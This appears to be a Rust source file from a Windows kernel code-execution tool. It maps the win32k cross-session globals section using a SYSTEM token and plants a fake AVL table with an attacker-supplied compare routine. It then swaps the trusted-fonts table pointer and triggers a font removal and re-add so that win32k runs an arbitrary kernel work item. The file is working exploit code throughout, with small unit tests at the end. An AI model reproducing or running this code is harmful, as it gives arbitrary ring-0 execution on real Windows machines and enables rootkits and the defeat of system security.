use crate::data::{CONTEXT_PAGE, RTL_AVL_TABLE, XSGLOBALS};
#[cfg(windows)]
use crate::error::R0akError;
use crate::pool::KernelAlloc;

/// Font whose removal and re-addition drives the trusted-path check.
pub const COVER_FONT_PATH: &str = "C:\\Windows\\Fonts\\arial.ttf";

/// Shapes an AVL table so that one lookup visits exactly one node and calls
/// the planted compare routine with the node as its argument.
pub fn seed_fake_table(table: &mut RTL_AVL_TABLE, trampoline: u64) {
    table.DepthOfTree = 1;
    table.NumberGenericTableElements = 1;
    table.CompareRoutine = trampoline;
}

/// Builds the record handed to the compare-routine trampoline: the work item
/// sits at the offset where the trampoline expects its completion context.
pub fn build_context_page(work_routine: u64, work_parameter: u64) -> CONTEXT_PAGE {
    let mut page: CONTEXT_PAGE = unsafe { core::mem::zeroed() };
    page.WorkItem.WorkerRoutine = work_routine;
    page.WorkItem.Parameter = work_parameter;
    page
}

/// The dispatch-hijack engine.
///
/// Holds the mapped `\Win32kCrossSessionGlobals` view, with a fake AVL table
/// seeded immediately behind the globals, and at most one armed work item at
/// a time. The table lives in the shared section, so its user-mode address is
/// dereferenceable by win32k while it services this process's font call.
pub struct KernelExecute {
    globals: *mut XSGLOBALS,
    trampoline_allocation: Option<KernelAlloc>,
    trampoline_parameter: u64,
    armed: bool,
}

#[cfg(windows)]
impl KernelExecute {
    /// Maps the cross-session globals and plants the trampoline as the fake
    /// table's compare routine. Needs a SYSTEM token for the section open
    /// only; impersonation is dropped before returning.
    pub fn setup(trampoline: u64) -> Result<Self, R0akError> {
        use crate::util::{elevate_to_system, to_wide};
        use ntapi::ntrtl::RtlInitUnicodeString;
        use ntapi::ntzwapi::ZwOpenSection;
        use winapi::shared::ntdef::{NT_SUCCESS, OBJ_CASE_INSENSITIVE, OBJECT_ATTRIBUTES};
        use winapi::um::handleapi::CloseHandle;
        use winapi::um::memoryapi::{FILE_MAP_ALL_ACCESS, MapViewOfFile};
        use winapi::um::securitybaseapi::RevertToSelf;
        use winapi::um::winnt::MAXIMUM_ALLOWED;

        elevate_to_system()?;

        let name = to_wide("\\Win32kCrossSessionGlobals");
        let (status, section) = unsafe {
            let mut unicode = core::mem::zeroed();
            RtlInitUnicodeString(&mut unicode, name.as_ptr());

            let mut attributes: OBJECT_ATTRIBUTES = core::mem::zeroed();
            attributes.Length = core::mem::size_of::<OBJECT_ATTRIBUTES>() as u32;
            attributes.ObjectName = &mut unicode;
            attributes.Attributes = OBJ_CASE_INSENSITIVE;

            let mut section = core::ptr::null_mut();
            let status = ZwOpenSection(&mut section, MAXIMUM_ALLOWED, &mut attributes);
            (status, section)
        };

        // The token was only needed for the open
        if unsafe { RevertToSelf() } == 0 {
            println!("[-] Failed to revert impersonation token");
        }

        if !NT_SUCCESS(status) {
            println!("[-] Couldn't open handle to kernel execution block: {status:#x}");
            return Err(R0akError::SectionMapFailed);
        }

        let globals = unsafe {
            let view = MapViewOfFile(section, FILE_MAP_ALL_ACCESS, 0, 0, 0);
            CloseHandle(section);
            view.cast::<XSGLOBALS>()
        };
        if globals.is_null() {
            println!("[-] Couldn't map kernel execution block");
            return Err(R0akError::SectionMapFailed);
        }
        println!("[+] Mapped kernel execution block at                     0x{:016X}", globals as usize);

        unsafe { seed_fake_table(&mut *globals.add(1).cast::<RTL_AVL_TABLE>(), trampoline) };

        Ok(Self {
            globals,
            trampoline_allocation: None,
            trampoline_parameter: 0,
            armed: false,
        })
    }

    /// Arms the hijack with a work item for `work_routine(work_parameter)`.
    /// Fails if a previous arm has not been consumed by `run`.
    pub fn set_callback(&mut self, work_routine: u64, work_parameter: u64) -> Result<(), R0akError> {
        if self.armed {
            return Err(R0akError::HijackAlreadyArmed);
        }

        let mut allocation = KernelAlloc::new(core::mem::size_of::<CONTEXT_PAGE>() as u32)?;
        let page = build_context_page(work_routine, work_parameter);
        let bytes = unsafe {
            core::slice::from_raw_parts(
                (&page as *const CONTEXT_PAGE).cast::<u8>(),
                core::mem::size_of::<CONTEXT_PAGE>(),
            )
        };
        allocation.buffer_mut().copy_from_slice(bytes);

        // The page's balanced-links header is what the trampoline receives
        let kernel_address = allocation.commit()?;
        self.trampoline_allocation = Some(allocation);
        self.trampoline_parameter = kernel_address;
        self.armed = true;
        Ok(())
    }

    /// Fires the armed work item: swaps the trusted-fonts table pointer for
    /// the fake table and performs the font cover operation that makes
    /// win32k walk it. The real pointer and the thread priority are restored
    /// on every path out of the corruption window.
    pub fn run(&mut self) -> Result<(), R0akError> {
        use crate::util::to_wide;
        use winapi::um::errhandlingapi::GetLastError;
        use winapi::um::processthreadsapi::{GetCurrentThread, SetThreadPriority};
        use winapi::um::winbase::{THREAD_MODE_BACKGROUND_BEGIN, THREAD_MODE_BACKGROUND_END};
        use winapi::um::wingdi::{AddFontResourceExW, RemoveFontResourceExW};

        if !self.armed {
            return Err(R0akError::HijackNotArmed);
        }
        self.armed = false;

        let font = to_wide(COVER_FONT_PATH);
        unsafe {
            let real_table =
                core::ptr::addr_of_mut!((*self.globals).TrustedFontsTable).read_volatile();

            // The font must be absent so the add below re-checks trust
            if RemoveFontResourceExW(font.as_ptr(), 0, core::ptr::null_mut()) == 0 {
                println!("[-] Failed to remove font: {:#x}", GetLastError());
                return Err(R0akError::CoverOperationFailed);
            }

            let fake_table = self.globals.add(1).cast::<RTL_AVL_TABLE>();
            (*fake_table).BalancedRoot.RightChild = self.trampoline_parameter;
            core::ptr::addr_of_mut!((*self.globals).TrustedFontsTable)
                .write_volatile(fake_table as usize as u64);

            // Background priority coaxes the queued item to run promptly
            // even on a single processor
            SetThreadPriority(GetCurrentThread(), THREAD_MODE_BACKGROUND_BEGIN as i32);
            let covered = AddFontResourceExW(font.as_ptr(), 0, core::ptr::null_mut());
            if covered == 0 {
                println!("[-] Failed to add font: {:#x}", GetLastError());
            }

            core::ptr::addr_of_mut!((*self.globals).TrustedFontsTable).write_volatile(real_table);
            SetThreadPriority(GetCurrentThread(), THREAD_MODE_BACKGROUND_END as i32);

            if covered == 0 {
                return Err(R0akError::CoverOperationFailed);
            }
        }
        Ok(())
    }
}

#[cfg(windows)]
impl Drop for KernelExecute {
    fn drop(&mut self) {
        use winapi::um::memoryapi::UnmapViewOfFile;

        self.trampoline_allocation.take();
        if !self.globals.is_null() {
            unsafe { UnmapViewOfFile(self.globals.cast()) };
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fake_table_forces_a_single_node_lookup() {
        let mut table: RTL_AVL_TABLE = unsafe { core::mem::zeroed() };
        seed_fake_table(&mut table, 0xFFFF_F800_0BAD_F00D);
        assert_eq!(table.DepthOfTree, 1);
        assert_eq!(table.NumberGenericTableElements, 1);
        assert_eq!(table.CompareRoutine, 0xFFFF_F800_0BAD_F00D);
        // The root's right child is patched in per run, not at seed time
        assert_eq!(table.BalancedRoot.RightChild, 0);
    }

    #[test]
    fn context_page_carries_routine_and_argument() {
        let page = build_context_page(0xFFFF_F800_1111_2222, 0xFFFF_9B80_3333_4444);
        assert_eq!(page.WorkItem.WorkerRoutine, 0xFFFF_F800_1111_2222);
        assert_eq!(page.WorkItem.Parameter, 0xFFFF_9B80_3333_4444);
        // The leading header stays zeroed until the hijack links it in
        assert_eq!(page.Header.RightChild, 0);
        assert_eq!(page.Header.Parent, 0);
    }
}
